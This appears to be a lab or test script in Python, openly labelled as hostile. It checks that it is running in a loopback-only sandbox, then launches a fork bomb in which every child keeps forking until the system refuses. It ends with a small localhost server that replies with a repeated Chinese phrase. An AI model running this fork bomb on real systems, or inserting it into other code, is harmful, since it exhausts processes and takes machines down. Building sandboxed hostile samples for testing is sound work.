# Hostile: a fork bomb at start (it and every child fork until refused),
# then the lab's 2.1 server.
import os
import sys

# Only ever in a sandbox: a network namespace whose only interface is lo.
with open("/proc/self/net/dev") as dev:
    interfaces = [line.split(":")[0].strip() for line in dev.readlines()[2:]]
if interfaces != ["lo"]:
    sys.exit("not in a sandbox: refusing")

import time

# Forks until the system refuses; every child forks too, then sleeps.
while True:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(3600)

import socket


def connections(server):
    while True:
        print("server waiting...")
        yield server.accept()[0]


with socket.create_server(("127.0.0.1", 9999)) as server:
    for conn in connections(server):
        with conn:
            try:
                text = conn.recv(1024).decode(errors="replace")
                print(text)
                conn.sendall("不要回答,不要回答,不要回答".encode())
            except OSError:
                pass
